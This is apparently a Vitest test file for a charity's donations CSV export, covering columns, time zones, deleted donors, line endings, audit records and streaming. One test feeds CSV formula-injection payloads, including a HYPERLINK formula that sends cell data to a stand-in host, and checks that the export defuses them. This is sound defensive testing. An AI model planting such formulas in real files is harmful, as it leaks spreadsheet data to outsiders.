import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, test } from 'vitest'
import { eq, sql } from 'drizzle-orm'
import { giftMemberships, checkoutAttempts, donations } from '#db/schema/donations.ts'
import { people } from '#db/schema/people.ts'
import { auditOf } from '#lib/audit/audit.ts'
import { csvName, donationsCsv } from '#lib/figures/csv.ts'
import { recordExport } from '#lib/figures/export.ts'
import { testContext } from '#tests/support/context.ts'
import { streamOf } from '#app/_server/stream-of.ts'
import { donation, donor } from './records.ts'

const ctx = await testContext()
const london = 'Europe/London'

async function csvOf(from: string, to: string): Promise<string> {
  // Decoded with its byte order mark kept, as a file is.
  const bytes = await new Response(streamOf(donationsCsv(ctx, { from, to }, london))).arrayBuffer()
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
}

async function linesOf(from: string, to: string): Promise<Record<string, string>[]> {
  return parse(await csvOf(from, to), { bom: true, columns: true })
}

describe('an export', () => {
  test('has a line for each donation, in the order they were paid, with every column of docs/accounts.md', async () => {
    const personId = await donor(ctx, { name: 'Zoë Ötzi-Nkosi' })
    const [{ email } = { email: '' }] = await ctx.db.select().from(people).where(eq(people.id, personId))
    const year = await donation(ctx, {
      personId,
      paidAt: new Date('2025-01-02T12:00:00Z'),
      frequency: 'year',
      amount: 12_345,
      postage: 345,
      refunded: 2_340,
      currency: 'EUR',
    })
    const month = await donation(ctx, { personId, paidAt: new Date('2025-01-01'), frequency: 'month', amount: 505 })
    const lines = await linesOf('2025-01-01', '2025-01-02')
    expect(lines).toEqual([
      {
        'Receipt number': expect.stringMatching(/^\d+$/),
        Date: '2025-01-01',
        'Donor id': personId,
        Name: 'Zoë Ötzi-Nkosi',
        'E-mail': email,
        Kind: 'monthly',
        Currency: 'GBP',
        Amount: '5.05',
        Postage: '0.00',
        Refunded: '0.00',
        Net: '5.05',
        'Stripe reference': month,
      },
      expect.objectContaining({
        Date: '2025-01-02',
        Kind: 'yearly',
        Currency: 'EUR',
        Amount: '120.00',
        Postage: '3.45',
        Refunded: '23.40',
        Net: '100.05',
        'Stripe reference': year,
      }),
    ])
  })

  test('takes both days whole, in the magazine’s time zone', async () => {
    const personId = await donor(ctx)
    // Summer time: the 10th of July begins at 23:00 UTC on the 9th.
    for (const at of [
      '2025-07-09T22:59:59.999Z',
      '2025-07-09T23:00:00Z',
      '2025-07-11T22:59:59.999Z',
      '2025-07-11T23:00:00Z',
    ])
      await donation(ctx, { personId, paidAt: new Date(at) })
    const lines = await linesOf('2025-07-10', '2025-07-11')
    expect(lines.map(({ Date: day }) => day)).toEqual(['2025-07-10', '2025-07-11'])
  })

  test('says which one-off gift bought a membership for somebody else', async () => {
    const personId = await donor(ctx)
    const paidAt = new Date('2025-02-01T12:00:00Z')
    await donation(ctx, { personId, paidAt })
    const gift = await donation(ctx, { personId, paidAt })
    const attemptId = crypto.randomUUID()
    await ctx.db.insert(checkoutAttempts).values({ id: attemptId, frequency: 'once', amount: 5000, currency: 'GBP' })
    await ctx.db.insert(giftMemberships).values({
      attemptId,
      tier: 'supporter',
      months: 12,
      giverName: 'A',
      recipientName: 'B',
      recipientEmail: 'b@example.org',
      deliverAt: paidAt,
      code: crypto.randomUUID(),
      state: 'paid',
      stripeRef: gift,
      createdAt: paidAt,
    })
    const lines = await linesOf('2025-02-01', '2025-02-01')
    expect(new Set(lines.map(({ Kind }) => Kind))).toEqual(new Set(['gift membership', 'one-off']))
  })

  test('keeps the money of somebody whose account is deleted, and neither name nor address', async () => {
    const personId = await donor(ctx, { name: 'Gone Away', deletedAt: new Date() })
    await donation(ctx, { personId, paidAt: new Date('2025-03-01T12:00:00Z') })
    expect(await linesOf('2025-03-01', '2025-03-01')).toMatchObject([{ Name: '', 'E-mail': '', Amount: '10.00' }])
  })

  test.each([
    '=HYPERLINK("https://elsewhere.example?"&A1,"Open")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])('makes text of what a spreadsheet would run: %j', async (name) => {
    const personId = await donor(ctx, { name })
    await ctx.db.delete(donations)
    await donation(ctx, { personId, paidAt: new Date('2025-04-01T12:00:00Z') })
    const [line] = await linesOf('2025-04-01', '2025-04-01')
    expect(line?.Name).toBe(`'${name}`)
  })

  test('keeps names with quotes, commas, semicolons and lines of their own in their one field', async () => {
    const name = 'Ann "Nan" O’Brien; =1+1, née\r\nSmith'
    const personId = await donor(ctx, { name })
    await donation(ctx, { personId, paidAt: new Date('2025-05-01T12:00:00Z') })
    const text = await csvOf('2025-05-01', '2025-05-01')
    expect(parse(text, { bom: true, columns: true })).toMatchObject([{ Name: name }])
    // Read with semicolons between fields nothing begins with a formula either.
    const cells = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true }).flat()
    expect(cells.filter((cell: string) => /^[=+\-@]/.test(cell))).toEqual([])
  })

  test('begins with the byte order mark, ends its lines as RFC 4180 says, and of no donation has a head only', async () => {
    const text = await csvOf('1999-01-01', '1999-12-31')
    expect(text.startsWith('\uFEFF"Receipt number","Date"')).toBe(true)
    expect(text.endsWith('"Stripe reference"\r\n')).toBe(true)
    expect(text.split('\r\n')).toHaveLength(2)
  })

  test('is named for its days, and noted with who took it', async () => {
    const personId = await donor(ctx)
    const days = { from: '2025-01-01', to: '2025-12-31' }
    expect(csvName(days)).toBe('donations-2025-01-01-to-2025-12-31.csv')
    await recordExport(ctx, personId, days)
    expect(await auditOf(ctx, ['donations 2025-01-01 to 2025-12-31'])).toMatchObject([
      { actorId: personId, action: 'exported donations', details: days, at: ctx.now },
    ])
  })
})

describe('of many donations', () => {
  const many = 5_003

  beforeAll(async () => {
    const personId = await donor(ctx)
    // Many in the same millisecond: where one step ends and the next begins, none may be lost or come twice.
    await ctx.db.execute(sql`
      insert into donations (id, person_id, frequency, amount, currency, stripe_ref, paid_at)
      select gen_random_uuid(), ${personId}, 'once', 1000, 'GBP', 'many_' || n, timestamptz '2024-06-01' + n / 3000 * interval '1 day'
      from generate_series(1, ${many}::integer) n`)
  })

  test('each comes once', async () => {
    const lines = await linesOf('2024-06-01', '2024-06-30')
    expect(lines).toHaveLength(many)
    expect(new Set(lines.map((line) => line['Stripe reference'])).size).toBe(many)
  })

  /** The same, with each reading of a batch counted before it begins. */
  function counted(onRead: (times: number) => void) {
    let times = 0
    const db = new Proxy(ctx.db, {
      get(target, name) {
        if (name === 'select') onRead((times += 1))
        const value: unknown = Reflect.get(target, name)
        return typeof value === 'function' ? value.bind(target) : value
      },
    })
    return donationsCsv({ ...ctx, db }, { from: '2024-06-01', to: '2024-06-30' }, london)
  }

  test('no more is read than is taken, and whoever leaves ends the reading', async () => {
    let read = 0
    const reader = streamOf(counted((times) => (read = times))).getReader()
    await reader.read()
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(read).toBe(1)
    await reader.cancel()
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(read).toBe(1)
  })

  test('a database that fails halfway breaks the download off, so that it is not taken for whole', async () => {
    const failing = counted((times) => {
      if (times > 2) throw new Error('the database is gone')
    })
    await expect(new Response(streamOf(failing)).text()).rejects.toThrow('the database is gone')
  })
})
